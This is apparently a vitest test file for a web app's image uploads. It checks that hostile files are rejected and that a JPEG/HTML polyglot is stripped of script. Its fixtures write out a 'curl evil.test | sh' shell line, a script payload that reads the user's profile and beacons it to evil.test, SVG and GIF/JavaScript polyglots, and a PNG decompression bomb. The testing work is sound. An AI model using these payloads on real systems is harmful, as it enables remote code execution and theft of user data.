import { mkdtemp, readdir, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { crc32 } from 'node:zlib'
import { and, eq } from 'drizzle-orm'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { events, registrations, users } from '../db/schema.ts'
import { buildTestApp, type TestApp } from '../testing/build-test-app.ts'
import { createPlayer, createRegistrationEvent } from '../testing/registration-fixtures.ts'

let app: TestApp
let dataDir: string
let jpeg: Buffer

beforeAll(async () => {
  dataDir = await mkdtemp(path.join(tmpdir(), 'qb-hostile-'))
  app = await buildTestApp({ dataDir })
  jpeg = await sharp({ create: { width: 32, height: 24, channels: 3, background: '#3366cc' } })
    .jpeg()
    .toBuffer()
})
afterAll(async () => {
  await app?.close()
  await rm(dataDir, { recursive: true, force: true })
})

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, crc])
}

/** A small PNG whose header declares 30000×30000 pixels (a "decompression bomb" once decoded). */
function pngDeclaring(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2, 0, 0, 0], 8) // 8 bits, RGB, deflate, no filter, no interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', Buffer.from([0x78, 0x9c, 0x63, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01])),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const SCRIPT =
  '<script>fetch("/api/users/me/").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.test",t))</script>'

/** Each hostile file, named and typed as an image the way an attacker would send it. */
const HOSTILE: [string, () => Buffer, string][] = [
  ['a shell script renamed .png', () => Buffer.from('#!/bin/sh\ncurl evil.test | sh\n'), 'evil.png'],
  ['an HTML page renamed .png', () => Buffer.from(`<!doctype html><html>${SCRIPT}</html>`), 'page.png'],
  // Both a GIF and a script a page could load: GIF is no format we take, whatever it hides.
  ['a GIF/JavaScript polyglot', () => Buffer.from(`GIF89a=1;${SCRIPT}//\u0000\u0000;`, 'latin1'), 'p.jpg'],
  [
    'an SVG with a script',
    () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}<circle r="4"/></svg>`),
    'logo.svg',
  ],
  [
    'a file of 5,000,001 bytes',
    () => Buffer.concat([jpeg, Buffer.alloc(5_000_001 - jpeg.length)]),
    'big.jpg',
  ],
  ['a PNG declaring 30000×30000 pixels', () => pngDeclaring(30_000, 30_000), 'huge.png'],
]

function formWith(field: string, bytes: Buffer, filename: string, extra: Record<string, string> = {}) {
  const data = new FormData()
  for (const [name, value] of Object.entries(extra)) data.append(name, value)
  data.append(
    field,
    new Blob([bytes], { type: filename.endsWith('.svg') ? 'image/svg+xml' : 'image/png' }),
    filename,
  )
  return data
}

const filesUnder = (folder: string) =>
  readdir(path.join(dataDir, 'uploads', folder), { recursive: true }).catch(() => [])

describe('hostile uploads', () => {
  test.each(HOSTILE)(
    '%s as a store logo: a 400 naming the field, nothing stored',
    async (_name, bytes, filename) => {
      const me = await createPlayer(app.db, {}, ['user', 'organizer'])
      const before = await app.db.select().from(users).where(eq(users.id, me.user.id))
      const response = await app.inject({
        method: 'POST',
        url: '/api/users/me/',
        headers: me.headers,
        payload: formWith('store_logo', bytes(), filename, { is_public: 'false' }),
      })
      expect(response.statusCode).toBe(400)
      expect(Object.keys(response.json())).toEqual(['store_logo'])
      expect(await app.db.select().from(users).where(eq(users.id, me.user.id))).toEqual(before)
      expect(await filesUnder(`logos/${me.user.id}`)).toEqual([])
    },
  )

  test.each(HOSTILE)(
    '%s as a deck photo: a 400 naming the field, nothing stored',
    async (_name, bytes, filename) => {
      const owner = await createPlayer(app.db, {}, ['user', 'organizer'])
      const event = await createRegistrationEvent(app.db, owner.user.id)
      const player = await createPlayer(app.db)
      const registered = await app.inject({
        method: 'POST',
        url: `/api/events/${event.id}/register/`,
        headers: player.headers,
      })
      expect(registered.statusCode).toBe(201)
      const response = await app.inject({
        method: 'PUT',
        url: `/api/events/${event.id}/register/deck/`,
        headers: player.headers,
        payload: formWith('deck_photo', bytes(), filename),
      })
      expect(response.statusCode).toBe(400)
      expect(Object.keys(response.json())).toEqual(['deck_photo'])
      const [row] = await app.db
        .select({ photo: registrations.deckPhoto })
        .from(registrations)
        .where(and(eq(registrations.eventId, event.id), eq(registrations.userId, player.user.id)))
      expect(row?.photo).toBeNull()
      expect(await filesUnder(`deck-photos/${event.id}`)).toEqual([])
    },
  )

  test.each(HOSTILE)(
    '%s as an event cover or a store photo: a 400 naming the field, nothing stored',
    async (_name, bytes, filename) => {
      const me = await createPlayer(app.db, {}, ['user', 'organizer'])
      const event = await createRegistrationEvent(app.db, me.user.id)
      const cover = await app.inject({
        method: 'PUT',
        url: `/api/events/${event.id}/cover/`,
        headers: me.headers,
        payload: formWith('cover', bytes(), filename),
      })
      expect(cover.statusCode).toBe(400)
      expect(Object.keys(cover.json())).toEqual(['cover'])
      const [row] = await app.db.select({ cover: events.cover }).from(events).where(eq(events.id, event.id))
      expect(row?.cover).toBeNull()
      const photo = await app.inject({
        method: 'POST',
        url: '/api/users/me/',
        headers: me.headers,
        payload: formWith('store_photo', bytes(), filename, { is_public: 'false' }),
      })
      expect(photo.statusCode).toBe(400)
      expect(Object.keys(photo.json())).toEqual(['store_photo'])
      expect(await filesUnder('pictures')).toEqual([])
    },
  )

  test('a JPEG with a script after its end (a JPEG/HTML polyglot) is kept as pixels only', async () => {
    const me = await createPlayer(app.db, {}, ['user', 'organizer'])
    const polyglot = Buffer.concat([jpeg, Buffer.from(SCRIPT)])
    const response = await app.inject({
      method: 'POST',
      url: '/api/users/me/',
      headers: me.headers,
      payload: formWith('store_logo', polyglot, 'logo.jpg', { is_public: 'false' }),
    })
    expect(response.statusCode, response.body).toBe(204)
    const [file = ''] = await filesUnder(`logos/${me.user.id}`)
    const logo = await app.inject({ method: 'GET', url: `/media/logos/${me.user.id}/${file}` })
    expect(logo.statusCode).toBe(200)
    expect(logo.headers['content-type']).toBe('image/jpeg')
    expect(logo.headers['x-content-type-options']).toBe('nosniff')
    expect(logo.rawPayload.includes(Buffer.from('<script'))).toBe(false)
  })
})
